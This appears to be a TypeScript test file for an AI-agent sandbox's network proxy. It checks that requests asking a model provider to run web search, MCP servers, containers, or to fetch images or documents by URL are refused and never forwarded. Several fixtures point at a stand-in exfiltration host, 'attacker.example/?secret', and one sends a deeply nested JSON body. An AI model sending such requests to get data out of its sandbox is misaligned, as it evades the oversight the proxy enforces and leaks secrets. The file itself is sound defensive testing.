/** A model's provider has tools, servers and fetches of its own: asked through a session's socket they are a way out. */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { systemClock } from '../../host/clock.ts';
import { openNet } from '../../host/egress/net.ts';
import { makeLog } from '../../host/log.ts';
import { Redactor } from '../../host/secrets/redact.ts';
import { openModelEndpoint, type Api, type Asked } from '../fakes/model-endpoint.ts';
import { stagedWayOut } from '../fakes/way-out.ts';

const PATHS: Record<Api, string> = { anthropic: '/v1/messages', openai: '/v1/chat/completions' };

/** What the session was answered, and what the endpoint was asked. */
async function ask(t: TestContext, api: Api, body: string): Promise<{ status: number; asked: Asked[] }> {
  const folder = mkdtempSync(join(tmpdir(), 'hd-net-'));
  const endpoint = await openModelEndpoint(api, [{ text: 'thought' }]);
  const log = makeLog(
    () => undefined,
    () => new Date(),
    (text) => text,
  );
  const socketPath = join(folder, 'net.sock');
  const agent = { sessionId: 's1', id: 'a1', name: 'a', api, baseUrl: endpoint.baseUrl };
  const keys = () => ({ ok: false, fault: 'none here', next: 'none' }) as const;
  const searchEndpoint = () => Promise.resolve(null);
  const deps = {
    keys,
    redactor: new Redactor(),
    clock: systemClock,
    log,
    wayOut: stagedWayOut().wayOut,
    searchEndpoint,
  };
  const net = await openNet(deps, socketPath, { ...agent, key: null }, () => undefined);
  t.after(async () => {
    await net.close();
    await endpoint.close();
    rmSync(folder, { recursive: true, force: true });
  });
  const status = await new Promise<number>((resolve, reject) => {
    const headers = { 'content-type': 'application/json' };
    const asking = request({ socketPath, method: 'POST', path: PATHS[api], headers }, (answer) => {
      answer.resume().on('close', () => resolve(answer.statusCode ?? 0));
    });
    asking.on('error', reject);
    asking.end(body);
  });
  return { status, asked: endpoint.asked };
}

const message = (content: unknown): string =>
  JSON.stringify({ model: 'm', messages: [{ role: 'user', content }], stream: true });
const url = 'https://attacker.example/?secret';

const REFUSED: readonly [string, Api, string][] = [
  ['a search', 'anthropic', '{"model":"m","messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}'],
  ['a server', 'anthropic', `{"model":"m","messages":[],"mcp_servers":[{"type":"url","url":"${url}","name":"x"}]}`],
  ['a container', 'anthropic', '{"model":"m","messages":[],"container":"c"}'],
  ['an image by address', 'anthropic', message([{ type: 'image', source: { type: 'url', url } }])],
  [
    'a document by address within a result',
    'anthropic',
    message([{ type: 'tool_result', tool_use_id: 't', content: [{ type: 'document', source: { type: 'url', url } }] }]),
  ],
  ['a file of the account', 'anthropic', message([{ type: 'document', source: { type: 'file', file_id: 'f' } }])],
  ['a search', 'openai', '{"model":"m","messages":[],"web_search_options":{}}'],
  ['a tool of the provider', 'openai', '{"model":"m","messages":[],"tools":[{"type":"web_search"}]}'],
  ['an image by address', 'openai', message([{ type: 'image_url', image_url: { url } }])],
  ['a file of the account', 'openai', message([{ type: 'file', file: { file_id: 'f' } }])],
  ['no JSON', 'openai', 'model=m'],
  ['a list', 'openai', '[]'],
  ['endless nesting', 'openai', `{"model":"m","messages":${'['.repeat(200_000)}${']'.repeat(200_000)}}`],
];

for (const [name, api, body] of REFUSED) {
  test(`${api}: ${name} is refused, and the endpoint never hears of it`, async (t) => {
    const { status, asked } = await ask(t, api, body);
    assert.equal(status, 403);
    assert.deepEqual(asked, []);
  });
}

test('a key that stands twice reaches the endpoint once, as it was checked', async (t) => {
  const tools = '"tools":[{"type":"web_search"}],"tools":[]';
  const { status, asked } = await ask(t, 'openai', `{"model":"m",${tools},"messages":[]}`);
  assert.equal(status, 200);
  assert.deepEqual(asked[0]?.body, { model: 'm', tools: [], messages: [] });
});

test('an image that is there, own tools, and what a tool was called with pass as they are', async (t) => {
  const body = {
    model: 'm',
    messages: [
      { role: 'user', content: [{ type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'AAAA' } }] },
      {
        role: 'assistant',
        content: [{ type: 'tool_use', id: 't', name: 'x', input: { source: { type: 'url', url } } }],
      },
    ],
    tools: [{ name: 'x', description: 'x', input_schema: { type: 'object' } }],
  };
  const { status, asked } = await ask(t, 'anthropic', JSON.stringify(body));
  assert.equal(status, 200);
  assert.deepEqual(asked[0]?.body, body);
});
